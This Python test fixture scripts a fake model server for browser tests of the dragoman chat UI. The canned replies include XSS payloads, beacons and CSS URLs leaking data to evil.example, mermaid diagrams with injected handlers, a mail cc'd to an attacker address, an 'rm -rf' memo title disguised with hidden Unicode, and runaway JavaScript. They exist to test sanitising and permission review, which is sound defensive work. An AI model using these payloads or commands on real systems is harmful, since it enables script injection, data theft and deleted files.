"""Play the model in the browser tests: the user's message names a play, served over HTTP.

Run `python -m tests.browser.plays FOLDER` to start such a model and to write a `dragoman.toml` that uses it.
Then run `dragoman serve --config FOLDER/dragoman.toml` to see the web UI, and send one of the names.
"""

from __future__ import annotations

import asyncio
import re
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

from dragoman.messages.usage import Usage
from dragoman.wire.scripted import Line, calls, calls_with, says, thinks
from dragoman.workspace.diff import diff_texts
from tests.loopback import Answer, Body, Reply, Stream, as_stream, delta, loopback, sse

LONG = "\n\n".join(
    f"Paragraph {n}: " + "the quick brown fox jumps over the lazy dog. " * 3 for n in range(20)
)

MARKDOWN = """\
# A heading

Some **bold** text, `code`, and a [link](https://example.org/).

| tool | calls |
|---|---|
| add | 3 |
| shell | 1 |

```python
def add(a: int, b: int) -> int:
    return a + b
```

Euler: $e^{i\\pi} + 1 = 0$

- one
- two
"""

ATTACKS = """\
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
[click](javascript:window.hacked=3)
<a href="javascript:window.hacked=4">here</a>
<svg onload="window.hacked=5"><script>window.hacked=6</script></svg>
<iframe src="javascript:window.hacked=7"></iframe>
<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=8></style></mglyph></table></mtext></math>
![picture](http://evil.example/leak.png?data=secret)
<form action="http://evil.example"><button formaction="javascript:window.hacked=9">go</button></form>
<style>body{display:none}</style>
<a href="data:text/html,<script>window.hacked=10</script>">data</a>
<div style="background:url(http://evil.example/x.png)">x</div>
<base href="http://evil.example/">
<details open ontoggle="window.hacked=11">x</details>
<input autofocus onfocus="window.hacked=12">
```html
<img src=x onerror="window.hacked=13">
```
"""

MARKS = """\
A claim[^1], and another[^note].

> [!WARNING]
> Mind the gap.

<details>
<summary>More</summary>

Hidden **words** here.

</details>

[^1]: The first source.
[^note]: The *second* one.
"""

DIAGRAMS = """\
```mermaid
flowchart LR
  Person -->|asks| Model
  Model -->|calls| Tool
```

```mermaid
sequenceDiagram
  Model->>Tool: add(2, 3)
  Tool-->>Model: 5
```

```mermaid
flowchart LR
  this is -- no diagram at all [[[
```

```mermaid
mindmap
  root
    of a kind that is not drawn
```

```mermaid
%%{init: {"themeCSS": ".node rect { background: url(https://evil.example/css.png); }", "layout": "elk"}}%%
flowchart LR
  A --> B["<img src=x onerror='window.hacked=20'>"]
  click B href "javascript:window.hacked=21"
```

```mermaid
flowchart LR
  A@{ img: "\\x68ttps://evil.example/leak.png", label: "A", h: 60 } --> B
```
"""

POEM = "".join(f"line {number}\n" for number in range(30))
_NEW = (
    POEM.replace("line 3\n", "line three\n").replace("line 15\n", "").replace("line 27\n", "line 27\nmore\n")
)
REVISED = ("poem.txt", POEM.encode(), _NEW.encode())  # three hunks

SPEED = 0.02  # seconds between pieces
PIECE = 48  # characters of a chunk in a long answer: each chunk is drawn

EXAMPLE = "There is a typo in greet.sh. Can you fix it and run it?"  # for a picture of the page

CHART = """\
<!doctype html><title>TITLE</title><style>p { color: rgb(1, 2, 3) }</style><p>TITLE</p>
<script>document.querySelector("p").textContent += " chart, drawn by a script";</script>
"""


PLAYS: dict[str, list[Line]] = {
    "hello": [says("Hello! How can I help?")],
    "think": [thinks("The person wants me to think.") + says("I have thought about it.")],
    "markdown": [says(MARKDOWN)],
    "attacks": [says(ATTACKS)],
    "long": [says(LONG, waits=SPEED)],
    "slow": [says("word " * 200, waits=0.2)],
    "add": [calls("add", a=2, b=3), says("It is 5.")],
    "note": [calls("note", text="buy milk", title="list"), says("The note is written.")],
    "two": [calls("note", text="one") + calls("note", text="two"), says("Both are written.")],
    "pair": [calls("note", text="one") + calls("note", text="two"), says("Then without.")],
    "plan": [calls("memo", title="work/plan"), says("Planned.")],
    "report": [calls("memo", title="work/report"), says("Reported.")],
    "touch": [calls("shell", command="touch tools/new"), says("Touched.")],
    "diary": [calls("memo", title="home/diary"), says("Dear diary.")],
    "settings": [calls("write_file", path="dragoman.toml", text=""), says("As it was.")],
    "draft": [calls("write_file", path="draft.txt", text="first\nsecond\n"), says("It is written.")],
    "long draft": [
        calls("write_file", path="long.txt", text="".join(f"line {n} of the draft\n" for n in range(60))),
        says("It is written."),
    ],
    "two drafts": [
        calls("write_file", path="one.txt", text="first\n"),
        calls("write_file", path="two.txt", text="second\n"),
        says("Both are written."),
    ],
    "revise": [calls("apply_patch", patch=diff_texts(*REVISED).text), says("It is revised.")],
    "rounds": [*[calls("add", a=n, b=n) for n in range(5)], says("That is what I have.")],
    "late": [calls("add", a=1, b=1), calls("add", a=2, b=2), says("word " * 500, waits=0.2)],
    "forty": [
        sum(
            (calls("add", a=n, b=n) for n in range(38)),
            calls("note", text="one") + calls("memo", title="a/b"),
        ),
        says("All forty are done."),
    ],
    "secret": [calls("secret"), says("I have seen it.")],
    "nap": [calls("nap", seconds=60), says("I have slept.")],
    "count": [calls("count", to=5), says("Counted.")],
    "picture": [calls("picture"), says("Here it is.")],
    "big": [calls("big"), says("That was much.")],
    "broken": [calls_with("add", '{"a": 2'), says("I could not.")],
    "loop": [*[calls("add", a=1, b=1) for _ in range(4)], says("Enough.")],
    "ask": [calls("ask_person", question="Which colour?", choices=["red", "blue"]), says("Thank you.")],
    "js": [calls("browser_js_eval", code="return 6 * 7"), says("42.")],
    "endless": [
        calls("browser_js_eval", code="files.write('begun.txt', 'x'); while (true) {}"),
        says("It did not end."),
    ],
    "bomb": [
        calls("browser_js_eval", code="const a = []; while (true) a.push(new Array(1e6).fill(1))"),
        says("It was stopped."),
    ],
    "write": [
        calls("browser_write_file", path="notes/a.txt", text="written in the browser"),
        says("Written."),
    ],
    "read": [calls("browser_read_file", path="notes/a.txt"), says("Read.")],
    "list": [calls("browser_list_directory", path=""), says("Listed.")],
    "mail": [
        calls(
            "send_mail",
            to="ada@example.org",
            subject="Minutes",
            body="\n".join(f"line {n} of the minutes" for n in range(60)),
            urgent=True,
            cc=["eve@evil.example"],
            priority="high",
        ),
        says("It is sent."),
    ],
    "overridden": [calls("memo", title="rm -rf ~/x \u202e # harmless ;)\u200b\U000e0041"), says("Begun.")],
    "steps": [calls("steps", to=4, until="seen.txt"), says("All steps are done.")],
    "people": [calls("people"), says("These are they.")],
    "page": [calls("page"), says("That is the page.")],
    "fails": [calls("fails"), says("It failed.")],
    "batch": [sum((calls("add", a=n, b=n) for n in range(11)), calls("fails")), says("The batch is done.")],
    "cut": [says("The first half of the sen", finish="length"), says("tence, and its end.")],
    "rtl": [says("שלום **עולם**.\n\n- אחת\n- שתיים\n\n| א | ב |\n|---|---|\n| 1 | 2 |")],
    "tasks": [
        calls("todo", items=[{"text": "read", "state": "done"}, {"text": "write"}]),
        says("Begun."),
    ],
    "tasks done": [
        calls("todo", items=[{"text": "read", "state": "done"}, {"text": "write", "state": "done"}]),
        says("All done."),
    ],
    "marks": [says(MARKS)],
    "diagrams": [says(DIAGRAMS)],
    "bake": [calls("load_skill", name="bake"), says("It is in the oven.")],
    "task": [calls("task", agent="helper", request="note"), says("The helper is done.")],
}


# The reply of a model with another name to any message.
VOICES: dict[str, list[Line]] = {
    "alpha": [says("I am alpha.")],
    "beta": [calls("add", a=2, b=3), says("I am beta.")],
    "slow": [says("word " * 500, waits=0.2)],
    "slower": [says("word " * 500, waits=0.2)],
    "unlisted": [says("I am unlisted.")],
}

TORN = asyncio.Event()  # when the reply of "torn" breaks off
BROKEN = Answer(400, {"error": {"message": "out of order"}})
BUSY = Answer(503, {"error": {"message": "too many people ask"}}, {"retry-after": "20"})


def obey(body: Body) -> Reply:
    """The next line of the play that the last message of the person names, or of what this model says."""
    said = [message for message in body["messages"] if message["role"] == "user" and not _is_result(message)]
    name = _text(said[-1]["content"]).strip().partition("\n")[0]
    place = max(n for n, message in enumerate(body["messages"]) if message is said[-1])
    after = body["messages"][place + 1 :]
    place = sum(message["role"] == "assistant" for message in after)
    model = body["model"].rpartition("/")[2]
    if model == "broken":
        return BROKEN
    results = [_text(message["content"]) for message in after if message["role"] == "tool"]
    if name == "busy":
        return BUSY
    if name == "torn":
        return Stream((sse(delta(content="Half of it")), TORN), "dies")
    if model in VOICES:
        play = VOICES[model]
    elif name == EXAMPLE:
        play = _example(results)
    elif name == "chart":
        play = _chart(results)
    elif name.startswith("html: "):
        play = [says("```html\n" + _text(said[-1]["content"]).strip().removeprefix("html: ") + "\n```\n")]
    elif name.startswith("js: "):
        play = [calls("browser_js_eval", code=name.removeprefix("js: ")), says("Done.")]
    else:
        play = PLAYS.get(name, [says(f"You said: {name}")])
    if "tools" not in body:
        play = play[-1:]  # the request wants only an answer
    line: Line = play[min(place, len(play) - 1)]
    line = replace(line, usage=Usage(100, 20)) if not line.usage.total else line
    return as_stream(line, piece=PIECE) if line.text == LONG else line


def _example(results: list[str]) -> list[Line]:
    """It edits the version that it read."""
    version = re.findall(r"version (\w+)", "".join(results) or "version none")[0]
    return [
        thinks("I should read the file before I change it.")
        + says("Let me look at the file first.")
        + calls("read_file", path="greet.sh"),
        says("Line 2 has `wrold` where `world` is meant.")
        + calls("edit_file", path="greet.sh", old="wrold", new="world", version=version),
        calls("shell", command="sh greet.sh"),
        says("Done: `greet.sh` says **Hello, world!** now."),
    ]


def _chart(results: list[str]) -> list[Line]:
    """It writes a page, and writes it again."""
    version = re.findall(r"version (\w+)", "".join(results) or "version none")[0]
    first, second = (CHART.replace("TITLE", title) for title in ("First", "Second"))
    return [
        calls("write_file", path="chart.html", text=first),
        calls("write_file", path="chart.html", text=second, version=version),
        says("Drawn.\n\n```csv\nname,sum\nAda,3\n```\n"),
    ]


def _is_result(message: Body) -> bool:
    """Return whether a user's message is in fact a result, or the request to continue a cut-off reply.

    A tool's message cannot contain images, so images of a result come after it in a user's message.
    """
    return _text(message["content"]).startswith(("[Result of ", "Your reply was cut off."))


def _text(content: Any) -> str:
    if isinstance(content, str):
        return content
    return "".join(part.get("text", "") for part in content)


TOOLS = '''\
"""Tools for the browser tests."""

import base64
import time

from dragoman import ToolContext, ToolOutput, tool


@tool
def add(a: int, b: int) -> int:
    """Add two numbers."""
    return a + b


@tool(permission="notes.write", pattern="title")
def note(text: str, title: str = "note") -> str:
    """Write a note."""
    return f"wrote {text!r} under {title!r}"


def _folder(arguments):
    return [arguments["title"].partition("/")[0] + "/*"]


@tool(permission="memos.write", pattern="title", wider=_folder)
def memo(title: str) -> str:
    """Begin a memo."""
    return f"began {title!r}"


@tool(review="always")
def secret() -> str:
    """Read the secret."""
    return "the password is swordfish"


@tool(cancellable=True)
async def nap(seconds: float) -> str:
    """Sleep."""
    import asyncio
    await asyncio.sleep(seconds)
    return "awake"


@tool
def count(to: int, context: ToolContext) -> str:
    """Count, slowly."""
    for n in range(1, to + 1):
        context.progress(f"{n} of {to}")
        time.sleep(0.05)
    return f"counted to {to}"


PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC"
)


@tool
async def picture(context: ToolContext) -> ToolOutput:
    """A picture."""
    file = await context.put_file(base64.b64decode(PNG), "image/png", "red.png")
    return ToolOutput("a red square", attachments=(file,))


@tool(permission="mail", pattern="to")
def send_mail(to: str, subject: str, body: str, urgent: bool, cc: list[str], priority: str) -> str:
    """Send a mail."""
    return f"sent to {to}"


@tool(permission="look")
def steps(to: int, until: str, context: ToolContext):
    """Steps, told one by one. It ends when this file is there."""
    for n in range(1, to + 1):
        yield f"step {n} of {to}"
    while not context.inside_workspace(until).exists() and not context.cancelled():
        time.sleep(0.05)
    return "done"


@tool(permission="look")
def people() -> list[dict[str, object]]:
    """People as rows."""
    return [{"name": "Ada", "age": 36, "city": "London"}, {"name": "Lin", "age": 41, "city": "北京"}]


@tool(permission="look")
def page() -> str:
    """A page of Markdown."""
    return "# A title\\n\\nSome **bold** words.\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |"


@tool(permission="look")
def fails() -> str:
    """It always fails."""
    raise ValueError("the disk is full\\nand more about it")


@tool
def big() -> str:
    """A megabyte of text."""
    return "\\n".join(f"line {n}: " + "x" * 40 for n in range(20_000))
'''

CONFIG = """\
model = "stage/model"
store = "chat.db"
tools = ["basics", "files", "browser"]
allow = ["add", "secret", "look", "nap", "count", "picture", "big", "task", "browser.*"]

[providers.stage]
title = "Stage"
base_url = "{url}"
local = true

[providers.stage.models]
alpha = {{}}
beta = {{}}
broken = {{}}
slow = {{}}
slower = {{}}

[agents.helper]
description = "writes notes"
tools = ["tools"]
"""


def furnish(folder: Path, url: str) -> Path:
    """A workspace with tools and a configuration whose model is at this address."""
    (folder / "tools").mkdir(parents=True, exist_ok=True)
    (folder / "tools" / "stage.py").write_text(TOOLS, "utf-8")
    config = folder / "dragoman.toml"
    config.write_text(CONFIG.format(url=url), "utf-8")
    return config


async def _main(folder: Path) -> None:
    async with loopback(obey) as server:
        print(f"serve with: dragoman serve --config {furnish(folder, server.url)}", flush=True)  # noqa: T201
        await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(_main(Path(sys.argv[1])))
